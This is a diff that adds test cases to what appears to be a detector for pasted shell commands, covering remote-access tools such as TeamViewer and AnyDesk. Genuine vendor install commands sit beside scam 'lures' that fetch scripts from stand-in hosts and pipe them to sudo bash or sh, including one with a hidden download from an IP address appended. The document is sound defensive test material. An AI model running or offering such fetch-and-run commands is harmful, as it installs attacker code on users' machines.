@@ -2073,6 +2073,84 @@ def one_project() -> list[Case]:
     return out
 
 
+# A remote-access tool installed as its own vendor documents it, from the vendor's page: the
+# vendor's page and domain are the tool's (the guard's scam concern is a stranger handing it out).
+REMOTE_ACCESS = [
+    (
+        "https://www.teamviewer.com/en/download/linux/",
+        "wget https://download.teamviewer.com/download/linux/teamviewer_amd64.deb && "
+        "sudo apt install ./teamviewer_amd64.deb",
+    ),
+    (
+        "https://anydesk.com/en/downloads/linux",
+        "wget -qO - https://keys.anydesk.com/repos/DEB-GPG-KEY | sudo apt-key add -\n"
+        'echo "deb http://deb.anydesk.com/ all main" | sudo tee '
+        "/etc/apt/sources.list.d/anydesk-stable.list\nsudo apt update && sudo apt install anydesk",
+    ),
+    (
+        "https://www.teamviewer.com/en/download/linux/",
+        "curl -fsSLO https://download.teamviewer.com/download/linux/teamviewer-host_amd64.deb",
+    ),
+]
+
+
+def remote_access() -> list[Case]:
+    out = [
+        case(
+            f"b4-rat-vendor-{i:02d}",
+            text,
+            "not_flagged",
+            "benign-own-page",
+            "linux",
+            page,
+            "terminal",
+        )
+        for i, (page, text) in enumerate(REMOTE_ACCESS, 1)
+    ]
+    lures = [
+        # a help desk serving the tool itself, or handing out the real one
+        (
+            "https://support-desk.example/session",
+            "curl -fsSL https://support-desk.example/anydesk.sh | sudo bash",
+            "malicious",
+            "terminal",
+        ),
+        ("https://support-desk.example/session", REMOTE_ACCESS[0][1], "flagged", "terminal"),
+        # the vendor's page with someone else's copy, or one more download beside it
+        (
+            "https://www.teamviewer.com/en/download/linux/",
+            "wget https://teamviewer-dl.example/"
+            "teamviewer_amd64.deb && sudo apt install ./teamviewer_amd64.deb",
+            "flagged",
+            "terminal",
+        ),
+        (
+            "https://www.teamviewer.com/en/download/linux/",
+            REMOTE_ACCESS[0][1] + "; curl -s http://203.0.113.5/x | sh",
+            "malicious",
+            "terminal",
+        ),
+        # a name that merely contains the tool's, and the Run box
+        (
+            "https://teamviewer-support.example/",
+            "curl -fsSL https://teamviewer-support.example/tv.sh | bash",
+            "malicious",
+            "terminal",
+        ),
+        (
+            "https://www.teamviewer.com/en/download/linux/",
+            REMOTE_ACCESS[0][1],
+            "malicious",
+            "run_dialog",
+        ),
+    ]
+    out += [
+        case(f"b4-rat-lure-{i:02d}", text, expect, "T1219", "linux", page, target)
+        for i, (page, text, expect, target) in enumerate(lures, 1)
+    ]
+    return out
+
+
 MACOS = {"dv11", "dv18", "dv19", "dv20", "dv21", "dv22"}
 
 
@@ -2404,6 +2482,7 @@ def build() -> list[Case]:
         *more_shapes(),
         *everyday(),
         *one_project(),
+        *remote_access(),
         *lures(),
     ]
 
